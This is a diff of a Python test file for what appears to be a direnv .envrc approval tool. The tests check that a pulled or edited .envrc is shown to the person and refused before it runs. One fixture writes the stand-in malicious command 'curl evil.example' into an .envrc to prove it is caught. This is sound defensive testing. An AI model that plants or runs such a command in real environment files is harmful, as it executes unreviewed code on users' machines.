@@ -224,16 +224,30 @@ def test_approval_moves_the_files_time_for_shells_that_looked_this_second(shop: 
 
 
 def test_approval_shows_what_changed_since_the_last_one(shop: Path) -> None:
-    """A `git pull` that changed a fragment is seen before it may run."""
+    """A `git pull` that brought another .envrc is seen before it may run."""
     apply(shop)
     approval.apply(context(shop))
-    change_fragment(shop, "curl evil.example\n")
-    apply(shop)
+    (shop / ".envrc").write_text("curl evil.example\n")
     shown: list[str] = []
     with pytest.raises(UsageError):
         approval.apply(context(shop, yes=False, show=shown.append, confirm=lambda _: False))
     assert "+curl evil.example" in shown[0]
     assert direnv_loads(shop) == ""
+
+
+def test_approval_asks_once_where_the_difference_was_just_agreed_to(shop: Path) -> None:
+    """A yes to the change of an approved file is a yes to running it; an edit in between is not covered."""
+    apply(shop)
+    approval.apply(context(shop))
+    change_fragment(shop, "export OWN=2\n")
+    apply(shop)
+    approval.apply(context(shop, yes=False, confirm=lambda _: False))
+    assert direnv_loads(shop) == "2"
+    change_fragment(shop, "export OWN=3\n")
+    apply(shop)
+    (shop / ".envrc").write_text("export OWN=4\n")
+    with pytest.raises(UsageError):
+        approval.apply(context(shop, yes=False, confirm=lambda _: False))
 
 
 def test_approval_refuses_what_changed_while_the_person_read(shop: Path) -> None:
